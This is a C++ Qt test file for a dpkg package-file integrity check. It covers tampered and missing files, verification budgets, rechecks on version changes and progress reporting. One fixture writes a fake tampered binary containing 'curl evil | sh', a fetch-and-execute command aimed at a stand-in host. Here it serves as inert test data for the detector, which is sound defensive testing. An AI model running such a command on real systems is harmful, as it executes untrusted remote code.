// SPDX-License-Identifier: GPL-3.0-or-later
// The packagefiles check on a fixture dpkg tree: tampered and missing files after the first pass, clean packages left
// out, the progress error before the first pass completes, a byte budget that spreads the pass over several calls,
// re-verification on a version change and after the recheck period; and the integrity source naming the check as in
// progress (not degraded) until its first snapshot.
#include "fixtureroot.h"
#include "integritysource.h"
#include "packagefilescheck.h"
#include "statediff.h"

#include <QCryptographicHash>
#include <QMutex>
#include <QThread>

using namespace Qt::StringLiterals;
using namespace Flight::Integrity;
using namespace Flight::Format;

namespace {

struct FakePackage
{
    QString name;
    QString version;
    QMap<QString, QByteArray> files; // host path -> content
};

QByteArray md5sums(const FakePackage &p)
{
    QByteArray out;
    for (auto it = p.files.cbegin(); it != p.files.cend(); ++it)
        out += QCryptographicHash::hash(*it, QCryptographicHash::Md5).toHex() + "  " + it.key().mid(1).toUtf8() + '\n';
    return out;
}

// Writes the status database, and each package's files and md5sums (arch amd64).
void install(const FixtureRoot &root, const QList<FakePackage> &packages)
{
    QByteArray status;
    for (const FakePackage &p : packages) {
        status += "Package: " + p.name.toUtf8()
            + "\nStatus: install ok installed\nArchitecture: amd64\nVersion: " + p.version.toUtf8() + "\n\n";
        QVERIFY(root.write(u"/var/lib/dpkg/info/%1.md5sums"_s.arg(p.name), md5sums(p)));
        for (auto it = p.files.cbegin(); it != p.files.cend(); ++it)
            QVERIFY(root.write(it.key(), *it));
    }
    QVERIFY(root.write(u"/var/lib/dpkg/status"_s, status));
}

// Rewrites the status database only (a version change without touching files).
void writeStatus(const FixtureRoot &root, const QList<FakePackage> &packages)
{
    QByteArray status;
    for (const FakePackage &p : packages)
        status += "Package: " + p.name.toUtf8()
            + "\nStatus: install ok installed\nArchitecture: amd64\nVersion: " + p.version.toUtf8() + "\n\n";
    QVERIFY(root.write(u"/var/lib/dpkg/status"_s, status));
}

const QList<FakePackage> kThree{
    {u"clean"_s, u"1.0"_s, {{u"/usr/bin/clean"_s, "clean binary\n"}, {u"/usr/share/doc/clean/README"_s, "read me\n"}}},
    {u"hello"_s, u"2.10-3"_s, {{u"/usr/bin/hello"_s, "#!/bin/sh\necho hello\n"}}},
    {u"tool"_s, u"0.9"_s, {{u"/usr/bin/tool"_s, "tool binary\n"}, {u"/usr/lib/tool/data"_s, "data\n"}}},
};

// kThree installed, then hello's binary tampered with and one of tool's files deleted.
void installTampered(const FixtureRoot &root)
{
    install(root, kThree);
    QVERIFY(root.write(u"/usr/bin/hello"_s, "#!/bin/sh\ncurl evil | sh\n"));
    QVERIFY(QFile::remove(root.hostPath(u"/usr/lib/tool/data"_s)));
}

CheckOptions optionsFor(const FixtureRoot &root)
{
    CheckOptions options;
    options.root = root.path();
    options.packageFiles = true;
    return options;
}

const QList<StateItem> kTamperedItems{
    {u"hello:amd64"_s,
     {{u"version"_s, u"2.10-3"_s}, {u"mismatches"_s, qint64(1)}, {u"files"_s, u"/usr/bin/hello (digest differs)"_s}}},
    {u"tool:amd64"_s,
     {{u"version"_s, u"0.9"_s}, {u"mismatches"_s, qint64(1)}, {u"files"_s, u"/usr/lib/tool/data (missing)"_s}}}};

class CollectingSink final : public Flight::Capture::EventSink
{
public:
    void deliver(Event event) override
    {
        const QMutexLocker lock(&m_mutex);
        m_events.append(std::move(event));
    }
    QList<Event> events() const
    {
        const QMutexLocker lock(&m_mutex);
        return m_events;
    }
    int snapshotsOf(const QString &check) const
    {
        int n = 0;
        for (const Event &e : events()) {
            if (const auto *s = std::get_if<StateSnapshot>(&e.body); s && s->check == check)
                ++n;
        }
        return n;
    }

private:
    mutable QMutex m_mutex;
    QList<Event> m_events;
};

} // namespace

class TestPackageFilesCheck : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void factoryAndSeverity()
    {
        CheckOptions options;
        QVERIFY(checkNames().contains(u"packagefiles"_s));
        for (const auto &check : makeChecks(options))
            QVERIFY2(check->name() != u"packagefiles"_s, "packagefiles is opt-in");
        options.packageFiles = true;
        const auto checks = makeChecks(options);
        QVERIFY(
            std::any_of(checks.cbegin(), checks.cend(), [](const auto &c) { return c->name() == u"packagefiles"_s; }));
        QCOMPARE(severityOf(u"packagefiles"_s), Severity::High);
    }

    void noDpkg()
    {
        FixtureRoot root;
        PackageFilesCheck check(optionsFor(root));
        const auto items = check.observe();
        QVERIFY2(items, qPrintable(items.error().message));
        QVERIFY(items->isEmpty());
    }

    void tamperedAndMissingAreItems()
    {
        FixtureRoot root;
        installTampered(root);
        PackageFilesCheck check(optionsFor(root));
        const auto items = check.observe(); // the default budget covers the whole first pass at once
        QVERIFY2(items, qPrintable(items.error().message));
        QCOMPARE(*items, kTamperedItems);
    }

    void budgetSpreadsTheFirstPass()
    {
        FixtureRoot root;
        installTampered(root);
        CheckOptions options = optionsFor(root);
        options.packageFilesBudget = 1; // one package per call
        PackageFilesCheck check(options);
        for (int done = 1; done <= 2; ++done) {
            const auto items = check.observe();
            QVERIFY(!items);
            QCOMPARE(items.error().code, kNotReady);
            QCOMPARE(items.error().message, u"first verification pass in progress (%1 of 3 packages)"_s.arg(done));
        }
        const auto items = check.observe();
        QVERIFY2(items, qPrintable(items.error().message));
        QCOMPARE(*items, kTamperedItems);

        // clean's files (21 bytes) leave room in a 25-byte budget, so hello (26 bytes) is verified too; then it is
        // spent: two of three in the first call.
        options.packageFilesBudget = 25;
        PackageFilesCheck twoPerCall(options);
        const auto first = twoPerCall.observe();
        QVERIFY(!first);
        QCOMPARE(first.error().message, u"first verification pass in progress (2 of 3 packages)"_s);
        QVERIFY(twoPerCall.observe());
    }

    void versionChangeIsVerifiedAtOnce()
    {
        FixtureRoot root;
        install(root, kThree);
        PackageFilesCheck check(optionsFor(root));
        auto items = check.observe();
        QVERIFY2(items, qPrintable(items.error().message));
        QVERIFY(items->isEmpty());

        // Changed behind dpkg's back: not seen before the recheck period (24 h) is over.
        QVERIFY(root.write(u"/usr/bin/clean"_s, "patched binary\n"));
        items = check.observe();
        QVERIFY(items);
        QVERIFY(items->isEmpty());

        // A new version (files unchanged here, so they no longer match the new md5sums) is verified at the next call.
        QList<FakePackage> upgraded = kThree;
        upgraded[0].version = u"1.1"_s;
        writeStatus(root, upgraded);
        items = check.observe();
        QVERIFY2(items, qPrintable(items.error().message));
        QCOMPARE(*items,
                 (QList<StateItem>{{u"clean:amd64"_s,
                                    {{u"version"_s, u"1.1"_s},
                                     {u"mismatches"_s, qint64(1)},
                                     {u"files"_s, u"/usr/bin/clean (digest differs)"_s}}}}));

        // Removed from dpkg: no longer an item.
        writeStatus(root, kThree.mid(1));
        items = check.observe();
        QVERIFY(items);
        QVERIFY(items->isEmpty());
    }

    void recheckPeriodReverifies()
    {
        FixtureRoot root;
        install(root, kThree);
        CheckOptions options = optionsFor(root);
        options.packageFilesRecheck = std::chrono::milliseconds(1);
        PackageFilesCheck check(options);
        QVERIFY(check.observe());
        QVERIFY(QFile::remove(root.hostPath(u"/usr/bin/clean"_s)));
        QThread::msleep(5);
        const auto items = check.observe();
        QVERIFY2(items, qPrintable(items.error().message));
        QCOMPARE(items->size(), 1);
        QCOMPARE(items->first().attrs.value(u"files"_s), AttrValue(u"/usr/bin/clean (missing)"_s));
    }

    void manyMismatchesAndBadMd5sums()
    {
        FixtureRoot root;
        FakePackage big{u"big"_s, u"1"_s, {}};
        for (int i = 0; i < 25; ++i)
            big.files.insert(u"/usr/share/big/f%1"_s.arg(i, 2, 10, QLatin1Char('0')), "x");
        install(root, {big, {u"bad"_s, u"1"_s, {}}});
        QVERIFY(root.write(u"/var/lib/dpkg/info/bad.md5sums"_s, "nonsense\n"));
        QVERIFY(QDir(root.hostPath(u"/usr/share/big"_s)).removeRecursively());
        PackageFilesCheck check(optionsFor(root));
        const auto items = check.observe();
        QVERIFY2(items, qPrintable(items.error().message));
        QCOMPARE(items->size(), 2);
        QCOMPARE(items->at(0).id, u"bad:amd64"_s);
        QCOMPARE(items->at(0).attrs.value(u"mismatches"_s), AttrValue(qint64(1)));
        QCOMPARE(items->at(0).attrs.value(u"files"_s),
                 AttrValue(root.hostPath(u"/var/lib/dpkg/info/bad.md5sums"_s)
                           + u": md5sums line 1: expected '<32 hex digits>  <path>'"_s));
        QCOMPARE(items->at(1).attrs.value(u"mismatches"_s), AttrValue(qint64(25)));
        const QString files = std::get<QString>(items->at(1).attrs.value(u"files"_s));
        QCOMPARE(files.split(u"; "_s).size(), PackageFilesCheck::kMaxListedFiles);
        QVERIFY(files.startsWith(u"/usr/share/big/f00 (missing); /usr/share/big/f01 (missing)"_s));
    }

    void sourceSaysInProgressNotDegraded()
    {
        FixtureRoot root;
        installTampered(root);
        IntegrityOptions options;
        options.checks = optionsFor(root);
        options.checks.packageFilesBudget = 1;
        options.checks.watchedPaths = {u"/etc/passwd"_s};
        options.interval = std::chrono::hours(1);
        options.sweep = std::chrono::milliseconds(50);
        options.kmsgPath.clear();
        IntegritySource source(options, nullptr);
        CollectingSink sink;
        QVERIFY(source.start(sink));
        const QString progress = u"packagefiles: first verification pass in progress (1 of 3 packages)"_s;
        auto backend = source.backend();
        QVERIFY2(backend.reason.endsWith(progress), qPrintable(backend.reason));
        // Other checks may fail here (bpf without privileges); the one in progress alone does not degrade.
        QCOMPARE(backend.degraded, backend.reason != progress);
        QCOMPARE(sink.snapshotsOf(u"packagefiles"_s), 0);
        QTRY_COMPARE(sink.snapshotsOf(u"packagefiles"_s), 1);
        QVERIFY2(!source.backend().reason.contains(u"packagefiles"_s), qPrintable(source.backend().reason));
        source.stop();
    }
};

QTEST_GUILESS_MAIN(TestPackageFilesCheck)
#include "tst_packagefilescheck.moc"
